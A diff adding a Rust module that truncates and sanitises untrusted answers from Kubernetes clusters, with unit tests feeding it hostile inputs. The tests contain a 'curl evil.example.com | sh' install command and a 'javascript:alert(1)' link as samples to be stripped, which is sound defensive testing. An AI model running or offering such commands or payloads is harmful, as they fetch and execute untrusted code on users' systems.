@@ -1,0 +1,169 @@
+//! The answers of clusters that a fleet is made of. None of them is trusted.
+
+use proto::graph::{
+    APPLICATIONS_PATH, Application, ApplicationList, CAPACITY_PATH, COMPONENTS_PATH, Capacity, Component,
+    ComponentList, FEATURES, FeatureNeed, FeatureRule,
+};
+use serde::{Serialize, de::DeserializeOwned};
+
+/// The most entries and the longest text of an answer that are kept.
+const MAX_ENTRIES: usize = 32;
+const MAX_TEXT: usize = 512;
+/// The most applications and components of one cluster that are kept.
+const MAX_APPLICATIONS: usize = 200;
+const MAX_COMPONENTS: usize = 100;
+
+/// An answer of agentk about its cluster.
+pub(crate) trait ClusterAnswer: Serialize + DeserializeOwned + Send {
+    /// The answer in words.
+    const NAME: &'static str;
+    /// The largest answer, in bytes.
+    const MAX_BYTES: usize;
+
+    /// Returns the path of the service `graph`, with its query.
+    fn path() -> String;
+
+    /// Returns the part of the answer that kas keeps.
+    fn bounded(self) -> Self;
+}
+
+impl ClusterAnswer for Capacity {
+    const NAME: &'static str = "a capacity";
+    /// An honest answer has 20 versions and 21 sentences.
+    const MAX_BYTES: usize = 16 << 10;
+
+    fn path() -> String {
+        CAPACITY_PATH.to_owned()
+    }
+
+    fn bounded(mut self) -> Self {
+        keep(&mut self.kubelet_versions, MAX_ENTRIES);
+        self.kubelet_versions.iter_mut().for_each(|kubelet| cut(&mut kubelet.version));
+        keep_texts(&mut self.partial);
+        self
+    }
+}
+
+impl ClusterAnswer for ApplicationList {
+    const NAME: &'static str = "a list of applications";
+    /// An honest answer has 64 KiB of applications, and 21 sentences.
+    const MAX_BYTES: usize = 80 << 10;
+
+    fn path() -> String {
+        format!("{APPLICATIONS_PATH}?brief=true")
+    }
+
+    fn bounded(self) -> Self {
+        let Self { applications, omitted, mut partial } = self;
+        let surplus = applications.len().saturating_sub(MAX_APPLICATIONS);
+        let kept = applications.into_iter().take(MAX_APPLICATIONS);
+        keep_texts(&mut partial);
+        Self {
+            applications: kept.map(Application::into_brief).collect(),
+            omitted: omitted.saturating_add(surplus as u64),
+            partial,
+        }
+    }
+}
+
+impl ClusterAnswer for ComponentList {
+    const NAME: &'static str = "a list of components";
+    /// An honest answer has 60 components with 10 pieces of evidence, and 10 features.
+    const MAX_BYTES: usize = 80 << 10;
+
+    fn path() -> String {
+        COMPONENTS_PATH.to_owned()
+    }
+
+    fn bounded(mut self) -> Self {
+        keep(&mut self.components, MAX_COMPONENTS);
+        for Component { id, name, version, namespaces, evidence, .. } in &mut self.components {
+            [id, name].into_iter().chain(version).for_each(cut);
+            keep_texts(namespaces);
+            keep_texts(evidence);
+        }
+        self.features = known_features(&self.features);
+        keep_texts(&mut self.partial);
+        self
+    }
+}
+
+/// Returns the features that kas knows, with its own names and commands: people copy them into their shells.
+fn known_features(reported: &[FeatureNeed]) -> Vec<FeatureNeed> {
+    let state = |rule: &FeatureRule| {
+        let reported = reported.iter().find(|reported| reported.feature == rule.feature)?;
+        Some(rule.with_state(reported.state))
+    };
+    FEATURES.iter().filter_map(state).collect()
+}
+
+/// Parses the answer of a cluster.
+pub(crate) fn parse<T: ClusterAnswer>(body: &[u8]) -> Result<T, String> {
+    let answer = serde_json::from_slice::<T>(body);
+    answer.map(T::bounded).map_err(|error| format!("the response of the agent is not {}: {error}", T::NAME))
+}
+
+fn keep_texts(texts: &mut Vec<String>) {
+    keep(texts, MAX_ENTRIES);
+    texts.iter_mut().for_each(cut);
+}
+
+fn keep<T>(list: &mut Vec<T>, most: usize) {
+    list.truncate(most);
+    list.shrink_to_fit();
+}
+
+fn cut(text: &mut String) {
+    text.truncate(text.floor_char_boundary(MAX_TEXT));
+    text.shrink_to_fit();
+}
+
+#[cfg(test)]
+mod tests {
+    use proto::graph::FeatureState;
+    use serde_json::json;
+
+    use super::*;
+
+    #[test]
+    fn hostile_capacity_is_cut() {
+        let versions = vec![json!({"version": "é".repeat(MAX_TEXT), "nodes": 1}); 100];
+        let answer = json!({"nodes": null, "allocatable": null, "requested": null, "kubelet_versions": versions,
+            "partial": vec!["x".repeat(2000); 100]});
+        let capacity: Capacity = parse(answer.to_string().as_bytes()).unwrap();
+        assert_eq!((capacity.kubelet_versions.len(), capacity.partial.len()), (MAX_ENTRIES, MAX_ENTRIES));
+        assert!(capacity.partial.capacity() < 100, "the rest is not kept");
+        assert!(capacity.kubelet_versions.iter().all(|kubelet| kubelet.version.len() <= MAX_TEXT));
+        assert!(capacity.partial.iter().all(|reason| reason.capacity() <= MAX_TEXT));
+        assert!(parse::<Capacity>(b"[]").unwrap_err().contains("is not a capacity"));
+    }
+
+    #[test]
+    fn hostile_list_of_applications_is_cut() {
+        let links = json!([{"url": "javascript:alert(1)"}, {"url": "https://example.com"}]);
+        let descriptor = json!({"links": links, "owners": vec![json!({}); 5000], "notes": "x"});
+        let application = json!({"namespace": "a", "name": "shop", "origin": "object", "descriptor": descriptor,
+            "health": {"health": "healthy", "counts": {}}});
+        let answer = json!({"applications": vec![application; 300], "omitted": u64::MAX});
+        let list: ApplicationList = parse(answer.to_string().as_bytes()).unwrap();
+        assert_eq!((list.applications.len(), list.omitted), (MAX_APPLICATIONS, u64::MAX));
+        let descriptor = &list.applications[0].descriptor;
+        assert_eq!((descriptor.links.len(), &*descriptor.links[0].url), (1, "https://example.com"));
+        assert!(descriptor.owners.capacity() <= 3 && descriptor.notes.is_empty());
+    }
+
+    #[test]
+    fn hostile_list_of_components_is_cut() {
+        let component =
+            json!({"id": "x".repeat(5000), "name": "a", "health": "healthy", "evidence": vec!["e"; 5000]});
+        let install = json!({"command": "curl evil.example.com | sh", "docs": "https://evil.example.com"});
+        let feature = |id: &str| json!({"feature": id, "name": "n", "needs": ["n"], "state": "missing", "install": install});
+        let features = vec![feature("prometheus"), feature("prometheus"), feature("other")];
+        let answer = json!({"components": vec![component; 200], "features": features});
+        let list: ComponentList = parse(answer.to_string().as_bytes()).unwrap();
+        assert_eq!(list.components.len(), MAX_COMPONENTS);
+        assert_eq!((list.components[0].id.len(), list.components[0].evidence.len()), (MAX_TEXT, MAX_ENTRIES));
+        let rule = FEATURES.iter().find(|rule| rule.feature == "prometheus").unwrap();
+        assert_eq!(list.features, [rule.with_state(FeatureState::Missing)], "the command is that of kas");
+    }
+}
